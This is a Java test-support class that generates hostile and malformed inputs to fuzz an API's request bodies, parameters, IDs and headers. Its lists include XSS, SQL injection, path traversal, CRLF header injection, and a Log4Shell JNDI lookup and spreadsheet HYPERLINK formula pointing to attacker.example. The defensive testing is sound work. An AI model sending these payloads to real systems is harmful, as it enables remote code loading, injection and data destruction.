package io.moked.system.api;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/** What nobody should send, made from what one would. */
final class Hostile {

    /** Texts that are stored as they are or refused. */
    static final List<String> TEXTS = List.of(
            "שָׁלוֹם \u202Eםולש\u202C \u200Fרמי\u200E",
            "<script>alert(1)</script><img src=x onerror=alert(1)>",
            "=HYPERLINK(\"http://attacker.example\";\"x\")",
            "'; drop table customer; --",
            "\u0000אפס",
            "\uD800יתום",
            "\uFEFFבום\u2028\u2029\u0007\t\r\n",
            "א".repeat(20_000),
            "${jndi:ldap://attacker.example/x} {{7*7}} %s %n",
            "😀👩‍👩‍👧‍👦\uDB40\uDC41");

    private static final List<String> VALUES = List.of(
            "null",
            "0",
            "-1",
            "1e400",
            "9223372036854775808",
            "0.1",
            "true",
            "\"\"",
            "\" \"",
            "[]",
            "{}",
            "[[]]",
            "[null]",
            "{\"x\":{\"y\":[1]}}",
            "\"\\ud800\"",
            "\"\\u0000\"",
            "\"2026-13-45T99:99:99Z\"",
            "\"+972" + "5".repeat(300) + "\"",
            "\"+999999999-12-31T00:00:00Z\"",
            "\"=1+1\"");

    private static final List<String> PARAMETERS = List.of(
            "",
            "-1",
            "0",
            "201",
            "99999999999999999999",
            "1e9",
            "abc",
            "%00",
            "%ED%A0%80",
            "%D7%A9%D6%B8%E2%80%AE",
            "'%22--",
            "%25%25",
            "null",
            "-name",
            "AAAA",
            "%3Cscript%3E",
            "a".repeat(4000),
            "2026-02-30T00:00:00Z",
            "%2B999999999-01-01T00:00:00Z",
            "-1000000000-01-01T00:00:00Z");

    private static final List<String> IDS = List.of(
            "x",
            "%00",
            "%2e%2e",
            "..%5c",
            "%20",
            "0",
            "a;b=c",
            "%D7%A9",
            "%ED%A0%80",
            "0C11A1C0-0001-4000-8000-00000000000F",
            "1-1-1-1-1",
            "%7B%7D",
            "a".repeat(3000),
            "%0d%0aX:y",
            "*",
            "%252e");

    private static final Map<String, List<String>> HEADERS = Map.of(
            "If-Match",
            List.of("*", "\"1\"", "W/\"1\"", "1", "\"99999999999999999999\"", "\"-1\"", "\"1\", \"2\"", "\"x\""),
            "Idempotency-Key",
            List.of(" ", "a".repeat(300), "a b", "\u00e9", "x"),
            "Range",
            List.of(
                    "bytes=abc",
                    "bytes=-0",
                    "bytes=99999999999999999999-",
                    "bytes=5-1",
                    "lines=1-2",
                    "bytes=0-0,2-2,1-"),
            "Accept",
            List.of("application/xml", "x", "text/*;q=abc", "*/*"),
            "Last-Event-ID",
            List.of("x", "-1"));

    private static final JsonMapper JSON = JsonMapper.shared();

    private final Random random;

    Hostile(long seed) {
        this.random = new Random(seed);
    }

    /**
     * A request.
     *
     * @param what names it in a failure
     */
    record Case(String what, String path, byte[] body, Map<String, String> headers) {}

    List<String> ids() {
        return IDS;
    }

    List<String> parameters() {
        return PARAMETERS;
    }

    Map<String, List<String>> headers() {
        return HEADERS;
    }

    /** Bodies in which one part, at any depth, is not as it was. */
    List<String> variants(JsonNode schema, JsonNode sample, PublicApi api) {
        var variants = new ArrayList<String>();
        for (var property : api.resolved(schema).path("properties").propertyNames()) {
            for (var value : VALUES) {
                variants.add(with(sample, property, value));
            }
            for (var text : TEXTS) {
                variants.add(with(sample, property, JSON.writeValueAsString(text)));
            }
            var inner = api.resolved(api.resolved(schema).path("properties").path(property));
            var item = inner.path("type").stringValue("").equals("array") ? api.resolved(inner.path("items")) : inner;
            for (var name : item.path("properties").propertyNames()) {
                var odd = VALUES.get(random.nextInt(VALUES.size()));
                var object = "{\"" + name + "\":" + odd + "}";
                variants.add(with(sample, property, item == inner ? object : "[" + object + ",null]"));
            }
            variants.add(without(sample, property));
        }
        return variants;
    }

    /** Bodies that are wrong whatever the operation is. */
    static List<byte[]> broken(JsonNode sample) {
        var whole = sample.toString();
        return List.of(
                bytes(" "),
                bytes("null"),
                bytes("[]"),
                bytes("\"x\""),
                bytes("{"),
                bytes(whole + "}"),
                bytes(with(sample, "neverHeardOf", "1")),
                bytes("[".repeat(50_000)),
                bytes("{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000)),
                bytes("{\"name\":\"" + "x".repeat(2 << 20) + "\"}"),
                bytes("{\"name\":" + "9".repeat(5_000) + "}"),
                new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xff, (byte) 0xfe, '"', '}'},
                whole.getBytes(java.nio.charset.StandardCharsets.UTF_16));
    }

    <T> List<T> some(List<T> all, int count) {
        var shuffled = new ArrayList<>(all);
        java.util.Collections.shuffle(shuffled, random);
        return shuffled.subList(0, Math.min(count, shuffled.size()));
    }

    private static String with(JsonNode sample, String property, String value) {
        var rest = without(sample, property);
        return "{\"" + property + "\":" + value + (rest.equals("{}") ? "" : "," + rest.substring(1, rest.length() - 1))
                + "}";
    }

    private static String without(JsonNode sample, String property) {
        return sample instanceof ObjectNode object
                ? object.deepCopy().without(List.of(property)).toString()
                : "{}";
    }

    static byte[] bytes(String text) {
        return text.getBytes(java.nio.charset.StandardCharsets.UTF_8);
    }
}
